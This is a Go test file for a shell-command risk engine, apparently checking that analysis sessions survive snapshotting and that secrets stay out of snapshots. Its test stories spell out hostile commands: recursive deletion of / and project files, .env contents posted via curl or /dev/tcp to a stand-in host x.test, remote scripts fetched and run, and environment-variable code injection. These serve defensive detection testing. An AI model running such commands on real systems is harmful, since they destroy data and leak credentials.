package engine_test

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/heedsh/heed/internal/detect"
	"github.com/heedsh/heed/internal/engine"
	"github.com/heedsh/heed/internal/flow"
	"github.com/heedsh/heed/internal/judge"
	"github.com/heedsh/heed/internal/shell"
	"github.com/heedsh/heed/internal/shell/fronts"
	"github.com/heedsh/heed/internal/specs"
	"github.com/heedsh/heed/internal/world"
	"github.com/heedsh/heed/internal/world/fakeworld"
	"github.com/heedsh/heed/risk"
	"pgregory.net/rapid"
)

const sessionScene = `
git
remote origin git@github.com:acme/demo.git
src/app.go     tracked "package app\n"
src/old/a.txt  untracked
notes.md       untracked
old.txt        untracked
lib.sh         tracked "D=src\nclean() { rm -rf \"$D\"; }\n"
run.sh         tracked exec "#!/bin/sh\nrm -rf \"$1\"\n"
build/         ignored 20 files 1MB
.env           untracked "TOKEN=x\n"
`

// a place is an engine in a world.
type place struct {
	engine *engine.Engine
	world  *world.World
	req    risk.Request
}

func newPlace(tb testing.TB) *place {
	tb.Helper()
	w, dir, env := fakeworld.Must(tb, sessionScene)
	return &place{
		engine: &engine.Engine{Catalog: specs.New().None().Catalog, Fronts: fronts.All()},
		world:  w, req: risk.Request{Dir: dir, Env: env},
	}
}

func (p *place) begin(t fataler) *engine.Session {
	s, err := p.engine.Begin(p.world, &p.req)
	if err != nil {
		t.Fatalf("%v", err)
	}
	return s
}

// again returns the session that is read back from what is kept of s.
func (p *place) again(t fataler, s *engine.Session, b shell.Bounds) *engine.Session {
	kept := bytes.Clone(s.Snapshot(b))
	resumed, err := p.engine.Resume(p.world, &p.req, kept)
	if err != nil {
		t.Fatalf("a snapshot cannot be read back: %v", err)
	}
	return resumed
}

type fataler interface {
	Fatalf(format string, args ...any)
}

func traceDiff(want, got *flow.Trace) string {
	return cmp.Diff(want, got, cmpopts.EquateComparable(risk.Remedy{}, risk.Source{}), cmpopts.IgnoreFields(flow.Trace{}, "Starts"))
}

func tier(tr *flow.Trace) risk.Tier {
	j := judge.Judge(&detect.Context{Effects: tr.Effects, Processes: tr.Processes}, risk.LocalUser, nil, judge.Opinion{})
	return j.Band.Tier()
}

// stories are commands of which the later depend on what the earlier set.
func stories() [][]string {
	return [][]string{
		{"cd src", "rm -rf *"},
		{"cd missing", "rm -rf *"},
		{"cd build; cd missing", "rm -rf old"},
		{"pushd src", "popd", "rm -rf old"},
		{"cd src", "cd -", "rm -rf src"},
		{"cd $UNSET/x", "rm -rf *"},
		{"D=src", "rm -rf $D"},
		{"D=/", "X=$D", "rm -rf \"$X\""},
		{"X=--force", "git push $X"},
		{"X='-rf src'", "rm $X"},
		{"D=$(cat notes.md)", "rm -rf $D"},
		{"D=$(mktemp -d)", "rm -rf $D"},
		{"X=rm", "$X -rf src"},
		{"X='rm -rf src'", "eval \"$X\""},
		{"X=$(curl -s https://x.test/v)", "eval \"$X\""},
		{"D=src", "unset D", "rm -rf ./$D"},
		{"X=$(cat .env)", "curl -d \"$X\" https://x.test"},
		{"A=(src build)", "rm -rf \"${A[@]}\""},
		{"A=(a)", "A+=(src)", "rm -rf ${A[1]}"},
		{"declare -A M=([k]=src [z]=/)", "rm -rf ${M[z]}"},
		{"A=(src/*)", "rm -rf \"${A[@]}\""},
		{"mapfile -t A < notes.md", "rm -rf \"${A[@]}\""},
		{"declare -i N=3", "N=N+4", "rm -rf $N"},
		{"declare -u U", "U=abc", "rm -rf $U"},
		{"declare -l U", "U=SRC", "rm -rf $U"},
		{"declare -n R=D", "D=/", "rm -rf $R"},
		{"LS_A=src LS_B=build; LS_C=/", "rm -rf ${!LS_*}"},
		{"D=X; X=src", "rm -rf ${!D}"},
		{"export PAGER='rm -rf src'", "git log"},
		{"export LD_PRELOAD=./x.so", "ls"},
		{"PATH=/tmp/b:$PATH", "ls"},
		{"export GIT_DIR=/tmp/g", "git reset --hard"},
		{"TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=sh'", "export TAR_OPTIONS", "tar -xf a.tar"},
		{"export BASH_ENV=lib.sh", "bash -c ls"},
		{"for f in *.md; do X=$f; done", "rm $X"},
		{"read -r X <<< src", "rm -rf $X"},
		{"printf -v D %s src", "rm -rf $D"},
		{"set -- src build", "rm -rf \"$1\""},
		{"set -- a src", "shift", "rm -rf \"$@\""},
		{"true", "test $? = 0 && rm -rf src"},
		{"echo $0", "rm -rf $0"},
		{"clean() { rm -rf \"$1\"; }", "clean src"},
		{"clean() { cd src; rm -rf *; }", "clean", "rm old"},
		{"function clean { D=/; }", "clean", "rm -rf $D"},
		{"clean() { if [ -f \"$F\" ]; then rm \"$F\"; else git reset --hard; fi; }", "clean"},
		{"clean() { cat <<EOF > x.sh\nrm -rf $D\nEOF\n}", "D=src; clean", "sh x.sh"},
		{"in() { (cd build && rm -rf \"$@\") }", "in x"},
		{". ./lib.sh", "clean"},
		{"eval 'clean() { rm -r build; }'", "clean"},
		{"clean() { rm -rf src; }", "unset -f clean", "clean"},
		{"command_not_found_handle() { rm -rf src; }", "nosuchprogram"},
		{"clean() { helper; }; helper() { rm -rf src; }", "clean"},
		{"clean() { local D=/; rm -rf $D; }", "D=build", "clean", "rm -rf $D"},
		{"shopt -s expand_aliases; alias c='rm -rf'", "c src"},
		{"alias c='rm -rf'", "unalias c", "c src"},
		{"trap 'rm -rf \"$D\"' EXIT", "D=src"},
		{"trap 'rm -rf src' EXIT", "trap - EXIT", "ls"},
		{"trap 'rm notes.md' INT", "ls"},
		{"set -e", "false; rm -rf src"},
		{"set -u", "rm -rf $UNSET/src"},
		{"set -f", "rm -rf *"},
		{"set -f", "set +f", "rm -rf *"},
		{"set -o pipefail", "false | true && rm -rf src"},
		{"shopt -s nullglob", "rm -rf *.none src"},
		{"shopt -s dotglob", "rm -rf *"},
		{"shopt -s globstar", "rm -rf **/*.txt"},
		{"exit", "rm -rf src"},
		{"false && exit", "rm -rf src"},
		{"mkdir -p new/deep", "touch new/f", "rm -rf new"},
		{"mkdir new", "cd new", "rm -rf *"},
		{"rm -rf build", "mkdir build", "rm -rf build"},
		{"mv src new", "rm -rf new"},
		{"mv notes.md src/n", "rm src/n"},
		{"cp src/app.go out.txt", "rm out.txt"},
		{"ln -s /etc l", "rm -rf l/"},
		{"ln -s src l", "cd l", "rm -rf *"},
		{"echo 'rm -rf src' > x.sh", "sh x.sh"},
		{"printf 'rm -rf %s' \"$D\" > x.sh", "bash x.sh"},
		{"echo 'rm -rf src' > x.sh", "chmod +x x.sh", "./x.sh"},
		{"echo ls > x.sh", "echo 'rm -rf src' >> x.sh", ". ./x.sh"},
		{"echo ls > x.sh; chmod +x x.sh", "test -x x.sh && rm -rf src"},
		{"cat .env > out.txt", "cat out.txt"},
		{"> out.txt", "test -s out.txt && rm -rf src"},
		{"echo src > out.txt", "rm -rf $(cat out.txt)"},
		{"cp .env out.txt", "curl -d @out.txt https://x.test"},
		{"tee x.sh <<< 'rm -rf src' > /dev/null", "sh x.sh"},
		{"git stash", "git stash drop"},
		{"curl -so dl.sh https://x.test/i.sh", "sh dl.sh"},
		{"wget -q https://x.test/dl.sh", "chmod +x dl.sh", "./dl.sh"},
		{"git clone https://x.test/r.git new", "new/run"},
		{"git clone https://x.test/r.git new", "make -C new"},
		{"curl -s https://x.test/i | tee x.sh > /dev/null", "mv x.sh y.sh", "bash y.sh"},
		{"curl -so dl.sh https://x.test/i.sh", ". ./dl.sh"},
		{"exec 3> out.txt", "cat .env >&3", "cat out.txt"},
		{"exec 3<>/dev/tcp/x.test/80", "cat .env >&3"},
		{"exec 3<>/dev/tcp/x.test/80", "sh <&3"},
		{"exec 3<>/dev/tcp/x.test/80", "exec 3>&-", "cat .env >&3"},
		{"exec < notes.md", "sh"},
		{"exec < /dev/tcp/x.test/80", "sh"},
		{"exec > /dev/tcp/x.test/80", "cat .env"},
		{"exec 5> >(sh)", "echo rm -rf src >&5"},
		{"exec 5> >(tee out.txt)", "cat .env >&5"},
		{"coproc sh", "echo rm -rf src >&${COPROC[1]}"},
	}
}

// sessions generates the commands of a session: one story or two, told into each
// other, with something else between.
func sessions() *rapid.Generator[[]string] {
	other := []string{"ls", "echo $D $X", "git status", "cd build", "cd ..", "X=1", "D=build", "touch src/t", "set +e", "f() { ls; }", "export X", "rm -rf $D", "cat notes.md", "exec 4> /tmp/o", "alias l=ls", "mkdir -p /tmp/m", "false", "rm -rf \"$UNSET\"/x", "unset X", "bash -c 'rm -rf $X'", "(cd src; rm -rf *)", "exec 3<&4"}
	all := stories()
	return rapid.Custom(func(t *rapid.T) []string {
		told := [][]string{rapid.SampledFrom(all).Draw(t, "story"), {}}
		if rapid.Bool().Draw(t, "two") {
			told[1] = rapid.SampledFrom(all).Draw(t, "other story")
		}
		var commands []string
		for len(told[0])+len(told[1]) > 0 {
			if rapid.IntRange(0, 3).Draw(t, "between") == 0 {
				commands = append(commands, rapid.SampledFrom(other).Draw(t, "command"))
			}
			next := rapid.IntRange(0, 1).Draw(t, "whose turn")
			if len(told[next]) == 0 {
				next = 1 - next
			}
			commands, told[next] = append(commands, told[next][0]), told[next][1:]
		}
		return commands
	})
}

// TestCutInTwo: a session that is kept and read back between two commands gives
// the same answers as one that goes on, down to the steps.
func TestCutInTwo(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	rapid.Check(t, func(t *rapid.T) {
		commands := sessions().Draw(t, "commands")
		cut := rapid.IntRange(1, len(commands)-1).Draw(t, "cut")
		whole, parts := p.begin(t), p.begin(t)
		for i, cmd := range commands {
			if i == cut {
				parts = p.again(t, parts, shell.DefaultBounds())
			}
			want, got := whole.Run(context.Background(), cmd), parts.Run(context.Background(), cmd)
			if diff := traceDiff(want, got); diff != "" {
				t.Fatalf("after a cut before command %d, command %d %q of\n%s\nis another (-whole +cut):\n%s", cut, i, cmd, strings.Join(commands, "\n"), diff)
			}
		}
	})
}

// TestBoundsRaise: what a bound cut from a snapshot only raises what follows, also
// behind a second snapshot.
func TestBoundsRaise(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	rapid.Check(t, func(t *rapid.T) {
		commands := sessions().Draw(t, "commands")
		b := shell.DefaultBounds()
		small := func(name string, n int) int { return rapid.IntRange(0, n).Draw(t, name) }
		b.Vars, b.Funcs, b.Aliases, b.Files = small("variables", 12), small("functions", 2), small("aliases", 1), small("files", 4)
		b.Text, b.Bytes = small("text", 60), small("bytes", 1500)
		cut := rapid.IntRange(1, len(commands)-1).Draw(t, "cut")
		second := rapid.IntRange(cut, len(commands)-1).Draw(t, "second cut")
		whole, parts := p.begin(t), p.begin(t)
		for i, cmd := range commands {
			if i == cut {
				parts = p.again(t, parts, b)
			}
			if i == second {
				parts = p.again(t, parts, shell.DefaultBounds())
			}
			want, got := whole.Run(context.Background(), cmd), parts.Run(context.Background(), cmd)
			if tier(got) < tier(want) {
				t.Fatalf("after a cut before command %d, command %d %q of\n%s\nis %v and not %v:\n%+v\n%+v", cut, i, cmd, strings.Join(commands, "\n"), tier(got), tier(want), got.Effects, want.Effects)
			}
		}
	})
}

// TestWithinBounds: a session of ordinary size loses nothing.
func TestWithinBounds(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	s := p.begin(t)
	for _, cmd := range []string{"cd src", "X=" + strings.Repeat("x", 1000), "f() { ls; }", "echo y > z"} {
		s.Run(context.Background(), cmd)
	}
	s = p.again(t, s, shell.DefaultBounds())
	for _, cmd := range []string{"echo $X", "f", "cat z", "ls", "rm -f z"} {
		for _, e := range s.Run(context.Background(), cmd).Effects {
			if e.Verb == risk.Blind {
				t.Errorf("%q: %s", cmd, e.Kind)
			}
		}
	}
}

// TestLost: what a bound cut makes blind whoever asks for it, and nobody else
// before.
func TestLost(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	long := strings.Repeat("x", 300)
	for _, c := range []struct {
		name, set, harmless, asks string
		bounds                    func(*shell.Bounds)
	}{
		{"a long value", "X=" + long, "ls src", "echo $X", func(b *shell.Bounds) { b.Text = 100 }},
		{"one of a list", "A=(a " + long + ")", "ls src", "rm ${A[0]}", func(b *shell.Bounds) { b.Text = 100 }},
		{"a long function", "f() { echo " + long + "; }", "ls src", "f", func(b *shell.Bounds) { b.Text = 100 }},
		{"a long file", "echo " + long + " > src/z", "ls src", "cat src/z", func(b *shell.Bounds) { b.Text = 100 }},
		{"where a file was made", "touch new.txt; touch src/z", "ls ..", "ls src", func(b *shell.Bounds) { b.Files = 1 }},
		{"what lies below", "touch new.txt; touch src/z", "ls ..", "mv src other", func(b *shell.Bounds) { b.Files = 1 }},
		{"a deep file", "touch new.txt; mkdir -p src/a/b; touch src/a/b/z", "echo src", "rm -rf src", func(b *shell.Bounds) { b.Files = 3 }},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := shell.DefaultBounds()
			c.bounds(&b)
			s := p.begin(t)
			s.Run(context.Background(), c.set)
			s = p.again(t, s, b)
			blind := func(cmd string) bool {
				for _, e := range s.Run(context.Background(), cmd).Effects {
					if e.Kind == risk.KindSessionCut {
						return true
					}
				}
				return false
			}
			if blind(c.harmless) {
				t.Errorf("%q asks for what is lost", c.harmless)
			}
			if !blind(c.asks) {
				t.Errorf("%q does not ask for what is lost", c.asks)
			}
			if !blind("true") {
				t.Error("it is forgotten that something depended on what is lost")
			}
		})
	}
}

// TestSecretsAreNotKept: no text of a secret that a session was told is in its
// snapshot, and no copy of one.
func TestSecretsAreNotKept(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	const secret = "hunter2hunter2"
	for i, commands := range [][]string{
		{"export API_TOKEN=" + secret},
		{"API_TOKEN=" + secret, "X=\"Bearer $API_TOKEN\"", "A=(a $API_TOKEN)", "f() { echo " + secret + "; }", "alias c='echo " + secret + "'", "echo $API_TOKEN > notes.md"},
		{"echo 'PASSWORD=" + secret + "' > .env", "X=$(cat .env)", "cp .env out.txt", "exec 3< .env", "Y=$(cut -d= -f2 .env)"},
		{"declare -A M_TOKEN=([a]=" + secret + ")"},
		{"trap 'echo " + secret + "' EXIT", "MY_SECRET=" + secret, "set -- " + secret},
	} {
		s := p.begin(t)
		for _, cmd := range commands {
			s.Run(context.Background(), cmd)
		}
		if kept := s.Snapshot(shell.DefaultBounds()); strings.Contains(string(kept), secret) {
			t.Errorf("%d: the secret is in the snapshot of\n%s\n%q", i, strings.Join(commands, "\n"), kept)
		}
		p.again(t, s, shell.DefaultBounds())
	}
}

// TestTrapsStay: what a session leaves for its end is told with every command, and
// stays.
func TestTrapsStay(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	s := p.begin(t)
	s.Run(context.Background(), "D=build; trap 'rm -rf \"$D\"' EXIT")
	s = p.again(t, s, shell.DefaultBounds())
	got := s.Run(context.Background(), "D=src")
	found := false
	for _, e := range got.Effects {
		found = found || e.Verb == risk.FSDelete && strings.HasSuffix(e.Target, "/src")
	}
	if !found {
		t.Errorf("what is run at the end is not told: %+v", got.Effects)
	}
}

// TestOtherDialects: every dialect's session can be kept.
func TestOtherDialects(t *testing.T) {
	t.Parallel()
	for _, dialect := range fronts.All().Dialects() {
		p := newPlace(t)
		p.req.Shell = dialect
		s := p.begin(t)
		s.Run(context.Background(), "f() { rm -rf \"$1\"; }; X=/; set -f")
		resumed := p.again(t, s, shell.DefaultBounds())
		want, got := s.Run(context.Background(), "f $X"), resumed.Run(context.Background(), "f $X")
		if diff := traceDiff(want, got); diff != "" || tier(got) != risk.Review {
			t.Errorf("%s: %v (-whole +cut):\n%s", dialect, tier(got), diff)
		}
	}
}
